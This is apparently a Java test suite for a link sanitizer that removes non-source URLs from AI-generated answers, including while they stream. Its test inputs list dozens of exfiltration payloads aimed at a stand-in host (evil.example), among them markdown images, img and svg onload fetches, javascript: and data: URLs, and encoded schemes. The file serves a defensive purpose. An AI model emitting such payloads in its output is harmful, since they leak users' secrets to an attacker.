package dev.footnote.cite;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import dev.footnote.generate.Prompt;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkGuardTest {

  private static final List<String> SOURCES =
      List.of("See https://good.example/a?b=1. Or [the page](http://good.example/page).");

  private static String clean(String text) {
    return LinkGuard.SOURCES_ONLY.clean(text, SOURCES);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/p.png?q=secret)",
        "![x](<https://evil.example/p.png?q=secret>)",
        "[click](https://evil.example/?q=secret \"title\")",
        "[click](  https://evil.example/?q=secret\n)",
        "![x][r]\n\n[r]: https://evil.example/p.png?q=secret",
        "[r]:\n<https://evil.example/p.png?q=secret>",
        "<https://evil.example/?q=secret>",
        "https://evil.example/?q=secret",
        "HTTPS://EVIL.example/?q=secret",
        "www.evil.example/?q=secret",
        "//evil.example.com/?q=secret",
        "evil.example.com/?q=secret",
        "mail secret to a@evil.example.com",
        "mailto:a@evil.example?body=secret",
        "<img src=https://evil.example/?q=secret>",
        "<img src='//evil.example/?q=secret' onerror=x",
        "<IMG\nSRC=\"https://evil.example/?q=secret\"/>",
        "<a href=\"javascript:alert(1)\">secret</a>",
        "<p style=\"background:url(https://evil.example/?q=secret)\">",
        "<svg/onload=fetch('https://evil.example/?q=secret')>",
        "<iframe src=data:text/html,secret></iframe>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "javascript:fetch('//evil.example')",
        "data:text/html;base64,c2VjcmV0",
        "https&colon;//evil.example/?q=secret",
        "https&#58;//evil.example/?q=secret",
        "[a](https&#x3a;//evil.example/?q=secret)",
        "[a](//evil.example/?q=secret)",
        "[a](\\\\evil.example\\q)",
        "![a](/\\evil.example/q)",
        "[[a](https://evil.example)](https://evil.example)",
        "https://good.example/a?b=1&q=secret",
        "https://good.example/a?b=1#secret",
        "https://good.example.evil.example/a",
        "ftp://evil.example/secret",
        "`` ` ``https://evil.example/?q=secret",
        "```\nnot closed https://evil.example/?q=secret"
      })
  void noOtherAddressIsLeft(String text) {
    String clean = clean("Before. " + text + " After.");

    assertThat(clean).startsWith("Before.").doesNotContainIgnoringCase("evil");
    assertThat(clean).doesNotContain("javascript:", "data:text", "](//", "](/");
    assertThat(clean(clean)).isEqualTo(clean);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "See https://good.example/a?b=1.",
        "See <https://good.example/a?b=1>, please.",
        "Read [this](http://good.example/page).",
        "A List<String> is fine, 3 < 4 and b > a; a ratio 1:2; at 10:30 (see above).",
        "Set server.port and read config/app.yml, then src/main/java.",
        "```java\nfetch(\"https://any.example/in/code\");\n```\n",
        "Call `new URL(\"https://any.example\")` first.",
        "Write C# or F#, e.g. in a/b form; and/or."
      })
  void whatIsNoLinkOrStandsInTheSourcesStays(String text) {
    assertThat(clean(text)).isEqualTo(text);
  }

  @Test
  void aLinkThatGoesLeavesItsText() {
    assertThat(clean("Ask [the desk](https://evil.example/x) now.")).isEqualTo("Ask the desk now.");
    assertThat(clean("See https://evil.example/x.")).isEqualTo("See (link removed).");
  }

  @Test
  void moreCanBeAllowed() {
    LinkGuard guard = new LinkGuard(List.of("https://docs.example/"));

    assertThat(guard.clean("https://docs.example/a https://docs.example.evil.org/b", List.of()))
        .isEqualTo("https://docs.example/a (link removed)");
    assertThatIllegalArgumentException()
        .isThrownBy(() -> new LinkGuard(List.of("https://docs.example")))
        .withMessageContaining("https://docs.example");
  }

  @Provide
  Arbitrary<String> text() {
    Arbitrary<String> piece =
        Arbitraries.of(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            "`",
            "```",
            "\n",
            " ",
            ":",
            "//",
            "https:",
            "www.",
            "evil.com",
            "/x",
            "a",
            "img src=",
            "\"",
            "'",
            "&#58;",
            "mailto:",
            "[1]",
            "[r]: ",
            "https://evil.com/?q=1",
            "data:",
            "\\",
            "@");
    return piece.list().ofMinSize(1).ofMaxSize(14).map(pieces -> String.join("", pieces));
  }

  @Property(tries = 3000)
  void cleaningAgainChangesNothing(@ForAll("text") String text) {
    String clean = clean(text);

    assertThat(clean(clean)).isEqualTo(clean);
  }

  @Property(tries = 2000)
  void noAddressIsShownMidStream(@ForAll("text") String text) {
    ShownText shown = new ShownText(LinkGuard.SOURCES_ONLY, new Prompt("Where?", List.of()));
    StringBuilder all = new StringBuilder();
    for (char c : (text + " end.").toCharArray()) {
      all.append(shown.append(String.valueOf(c)));
    }
    all.append(shown.finish());

    String withoutCode = all.toString().replaceAll("(?s)```.*?```|`[^`\n]*`", "");
    assertThat(withoutCode.contains("](https://evil") || withoutCode.contains("<img src=\"https"))
        .isFalse();
  }

  @Test
  void textIsShownAsSoonAsNothingIsOpen() {
    ShownText shown = new ShownText(LinkGuard.SOURCES_ONLY, new Prompt("Where?", List.of()));

    assertThat(shown.append("Leave is ")).isEqualTo("Leave is");
    assertThat(shown.append("30 days [1")).isEqualTo(" 30 days");
    assertThat(shown.append("]. See ![x](https://evil")).isEqualTo(". See");
    assertThat(shown.append(".example/p.png) there ")).isEqualTo(" x there");
    assertThat(shown.finish()).isEqualTo(" ");
  }
}
